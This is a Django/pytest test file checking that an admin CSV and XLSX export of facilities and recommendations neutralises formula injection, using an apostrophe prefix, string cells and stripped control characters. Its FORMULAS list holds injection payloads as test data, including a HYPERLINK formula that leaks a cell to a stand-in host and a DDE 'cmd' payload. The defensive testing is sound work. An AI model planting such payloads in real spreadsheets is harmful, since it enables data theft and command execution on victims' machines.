"""Exported cells are data, never formulas, through the admin's export of facilities and
recommendations: texts a spreadsheet would run (=, +, -, @, tab, CR first) carry a leading
apostrophe in CSV and XLSX, XLSX cells are strings, characters that XML cannot hold are removed,
and whole numbers are number cells."""

import io

import pytest
from openpyxl import load_workbook

from conftest import make_staff
from facilities import services
from facilities.models import ExaminedArea
from facilities.tests.factories import make_facility, make_visit
from npm_tracker.tests.test_export import XLSX, csv_rows, export

FORMULAS = [
    '=HYPERLINK("http://x?leak="&A2,"Open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def head(reference):
    return make_staff("kz-head", "KZ", roles=("npm_head",), direct_permissions=False)


def xlsx_sheet(response):
    assert response.status_code == 200, response.status_code
    return load_workbook(io.BytesIO(response.content)).active


def assert_no_formula(sheet):
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]


def xml_text(text):
    # XML reads a carriage return back as a line feed (end-of-line handling).
    return text.replace("\r", "\n")


def column_of(sheet, name):
    header = [cell.value for cell in sheet[1]]
    index = header.index(name)
    return [row[index] for row in sheet.iter_rows(min_row=2)]


@pytest.mark.django_db
def test_facility_texts_that_look_like_formulas_are_exported_as_text(head):
    for text in FORMULAS:
        make_facility(name=text, notes=text, capacity=35)

    rows = csv_rows(export(head, "facilities.facility"))
    assert sorted(row["name"] for row in rows) == sorted("'" + t for t in FORMULAS)
    assert {row["notes"] for row in rows} == {"'" + t for t in FORMULAS}
    assert {row["capacity"] for row in rows} == {"35"}

    sheet = xlsx_sheet(export(head, "facilities.facility", XLSX))
    assert_no_formula(sheet)
    names = column_of(sheet, "name")
    assert sorted(c.value for c in names) == sorted(xml_text("'" + t) for t in FORMULAS)
    assert {c.data_type for c in names + column_of(sheet, "notes")} == {"s"}
    # A number stays a number.
    assert {(c.value, c.data_type) for c in column_of(sheet, "capacity")} == {(35, "n")}


@pytest.mark.django_db
def test_recommendation_texts_that_look_like_formulas_are_exported_as_text(head):
    visit = make_visit()
    for text in FORMULAS:
        services.recommendation_create(
            actor=None,
            visit=visit,
            source="visit_report",
            addressee_level="facility",
            addressee_agency=visit.facility.agency,
            area=ExaminedArea.objects.first(),
            text=text,
        )

    rows = csv_rows(export(head, "facilities.recommendation"))
    assert sorted(row["text"] for row in rows) == sorted("'" + t for t in FORMULAS)

    sheet = xlsx_sheet(export(head, "facilities.recommendation", XLSX))
    assert_no_formula(sheet)
    texts = sorted(c.value for c in column_of(sheet, "text"))
    assert texts == sorted(xml_text("'" + t) for t in FORMULAS)


@pytest.mark.django_db
def test_control_characters_do_not_break_the_xlsx_export(head):
    make_facility(name="ИВС\x01 Караганды\uffff", notes="\x1f=1+1 first\x0b line\nsecond\tline")

    sheet = xlsx_sheet(export(head, "facilities.facility", XLSX))

    assert [c.value for c in column_of(sheet, "name")] == ["ИВС Караганды"]
    # Removed first, then escaped: what is left would have started a formula.
    assert [c.value for c in column_of(sheet, "notes")] == ["'=1+1 first line\nsecond\tline"]
    assert_no_formula(sheet)
    (row,) = csv_rows(export(head, "facilities.facility"))
    assert (row["name"], row["notes"]) == ("ИВС Караганды", "'=1+1 first line\nsecond\tline")
